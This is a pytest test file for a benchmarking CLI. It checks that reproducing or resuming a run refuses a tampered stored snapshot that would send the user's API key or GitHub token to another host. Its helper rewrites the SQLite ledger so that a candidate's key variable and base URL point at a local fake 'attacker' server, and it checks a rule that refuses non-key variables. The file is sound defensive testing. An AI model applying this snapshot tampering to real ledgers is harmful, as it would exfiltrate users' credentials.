"""A stored snapshot must not redirect the reproducing user's credentials (issue 12, item 2).

The attack: anyone who can write the ledger edits a run's ``spec_snapshot`` (``spec_hash`` is a
hash, not a signature) so that a candidate reads a key variable of the reproducing user and sends
it to a host of the attacker's. Here the "attacker" is a second `tests/fakeserver.py`, which records
the key every request carried. ``benchrun reproduce`` and ``run --resume`` must show what they will
read and call, and refuse (exit 2, one line, nothing called, nothing written) unless ``--yes`` when
the snapshot's variables or hosts are not those of the spec file on disk, or that file is absent.
Names that are no model key (``GITHUB_TOKEN``, ``HOME``) are refused even with ``--yes`` unless
listed in ``BENCHRUN_ALLOW_KEY_ENV``.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from typing import Any

import pytest

from conftest import Project, fake_config
from fakeserver import FakeServer
from reliability.relsupport import runs_in

CANARY = "CnrySnapshotKey7Hq2Lm9Xv4"
GH_CANARY = "ghp_CnryGithubToken5Tz8Wq1Rk"
ENV = {"ACME_API_KEY": CANARY, "GITHUB_TOKEN": GH_CANARY}


@pytest.fixture
def attacker() -> Iterator[FakeServer]:
    with FakeServer(fake_config()) as srv:
        yield srv


def _run(project: Project) -> str:
    spec = project.setup()
    r, payload = project.cli_json("run", str(spec))
    assert r.returncode == 0, r.stderr
    return str(payload["conditions"]["run_id"])


def _tamper(project: Project, run_id: str, **candidate: Any) -> None:
    """Edit the stored snapshot's first candidate the way an attacker with write access to the ledger would."""
    con = sqlite3.connect(project.ledger)
    try:
        (text,) = con.execute("SELECT spec_snapshot FROM run WHERE id = ?", (run_id,)).fetchone()
        snap = json.loads(text)
        snap["spec"]["candidates"][0].update(candidate)
        con.execute("UPDATE run SET spec_snapshot = ? WHERE id = ?", (json.dumps(snap), run_id))
        con.commit()
    finally:
        con.close()


def _make_resumable(project: Project, run_id: str) -> None:
    """Drop the run's results of the tampered candidate and mark it interrupted, as a crash would leave it."""
    con = sqlite3.connect(project.ledger)
    try:
        con.execute("DELETE FROM result WHERE run_id = ? AND model_key = 'good'", (run_id,))
        con.execute("UPDATE run SET status = 'interrupted' WHERE id = ?", (run_id,))
        con.commit()
    finally:
        con.close()




def _error_line(stderr: str) -> str:
    lines = [ln for ln in stderr.splitlines() if ln.strip()]
    assert lines and lines[-1].startswith("error: "), stderr
    assert "Traceback" not in stderr, stderr
    return lines[-1]


def test_reproduce_refuses_a_snapshot_that_sends_a_key_to_another_host(project: Project, server: FakeServer,
                                                                        attacker: FakeServer) -> None:
    run_id = _run(project)
    _tamper(project, run_id, api_key_env="ACME_API_KEY", api_base=attacker.url)
    server.reset()
    before = runs_in(project.ledger)

    r = project.cli("reproduce", run_id, env=ENV)
    assert r.returncode == 2, r.stdout + r.stderr
    line = _error_line(r.stderr)
    host = attacker.url.rsplit("/", 1)[0]
    assert f"$ACME_API_KEY -> {host} (good)" in line and "--yes" in line and "runs/mini.yaml" in line, line
    assert CANARY not in r.stdout + r.stderr
    # shown before anything was called: every model's variable and host
    assert f"$ACME_API_KEY -> {host} (good)" in r.stderr.split("error:")[0]
    assert f"no key -> {server.url.rsplit('/', 1)[0]} (judge)" in r.stderr
    # nothing called (neither host), nothing written
    assert attacker.requests() == [] and server.requests() == []
    assert runs_in(project.ledger) == before

    # --json: the same refusal, the same one line
    r = project.cli("reproduce", run_id, "--json", env=ENV)
    assert r.returncode == 2 and r.stdout == "" and attacker.requests() == []

    # confirmed: the user asked for it, so the key goes where the snapshot says (the test is not vacuous)
    r = project.cli("reproduce", run_id, "--yes", env=ENV)
    assert r.returncode in (0, 1), r.stderr
    keys = {rec.api_key for rec in attacker.requests()}
    assert keys == {CANARY}, keys


def test_resume_refuses_a_snapshot_that_sends_a_key_to_another_host(project: Project, server: FakeServer,
                                                                     attacker: FakeServer) -> None:
    run_id = _run(project)
    _tamper(project, run_id, api_key_env="ACME_API_KEY", api_base=attacker.url)
    _make_resumable(project, run_id)
    server.reset()

    r = project.cli("run", "--resume", run_id, env=ENV)
    assert r.returncode == 2, r.stdout + r.stderr
    line = _error_line(r.stderr)
    assert "ACME_API_KEY" in line and f"benchrun run --resume {run_id} --yes" in line, line
    assert attacker.requests() == [] and server.requests() == []
    con = sqlite3.connect(project.ledger)
    assert con.execute("SELECT status FROM run WHERE id = ?", (run_id,)).fetchone() == ("interrupted",)
    con.close()

    r = project.cli("run", "--resume", run_id, "--yes", env=ENV)
    assert r.returncode in (0, 1), r.stderr
    assert {rec.api_key for rec in attacker.requests()} == {CANARY}


def test_a_token_that_is_no_model_key_is_refused_even_with_yes(project: Project, attacker: FakeServer) -> None:
    run_id = _run(project)
    _tamper(project, run_id, api_key_env="GITHUB_TOKEN", api_base=attacker.url)

    r = project.cli("reproduce", run_id, "--yes", env=ENV)
    assert r.returncode == 2, r.stderr
    line = _error_line(r.stderr)
    assert "GITHUB_TOKEN" in line and "BENCHRUN_ALLOW_KEY_ENV=GITHUB_TOKEN" in line, line
    assert attacker.requests() == [] and GH_CANARY not in r.stderr

    # a variable that is no key at all
    _tamper(project, run_id, api_key_env="HOME")
    r = project.cli("reproduce", run_id, "--yes", env=ENV)
    assert r.returncode == 2 and "_API_KEY, _KEY or _TOKEN" in _error_line(r.stderr)
    assert attacker.requests() == []

    # allowed explicitly and confirmed: sent
    _tamper(project, run_id, api_key_env="GITHUB_TOKEN")
    r = project.cli("reproduce", run_id, "--yes", env={**ENV, "BENCHRUN_ALLOW_KEY_ENV": "GITHUB_TOKEN"})
    assert r.returncode in (0, 1), r.stderr
    assert {rec.api_key for rec in attacker.requests()} == {GH_CANARY}


def test_a_spec_file_naming_a_refused_variable_records_no_run(project: Project, server: FakeServer) -> None:
    spec = project.setup()
    text = spec.read_text().replace("alias: good\n", "alias: good\n  api_key_env: GITHUB_TOKEN\n", 1)
    spec.write_text(text)
    r = project.cli("run", str(spec), env=ENV)
    assert r.returncode == 2, r.stderr
    assert "GITHUB_TOKEN" in _error_line(r.stderr)
    assert server.requests() == [] and runs_in(project.ledger) == 0


def test_an_absent_spec_file_needs_yes(project: Project, server: FakeServer) -> None:
    run_id = _run(project)
    (project.root / "runs" / "mini.yaml").unlink()
    server.reset()
    r = project.cli("reproduce", run_id, env=ENV)
    assert r.returncode == 2, r.stderr
    assert "absent" in _error_line(r.stderr)
    assert server.requests() == []
    r = project.cli("reproduce", run_id, "--yes", env=ENV)
    assert r.returncode == 0, r.stderr
    assert server.requests() != []


def test_an_untouched_snapshot_runs_and_says_what_it_calls(project: Project, server: FakeServer) -> None:
    run_id = _run(project)
    r = project.cli("reproduce", run_id, env=ENV)
    assert r.returncode == 0, r.stderr
    host = server.url.rsplit("/", 1)[0]
    for model in ("good", "bad", "judge"):
        assert f"no key -> {host} ({model})" in r.stderr, r.stderr
    assert f"as in the spec file {project.root / 'runs' / 'mini.yaml'}" in r.stderr
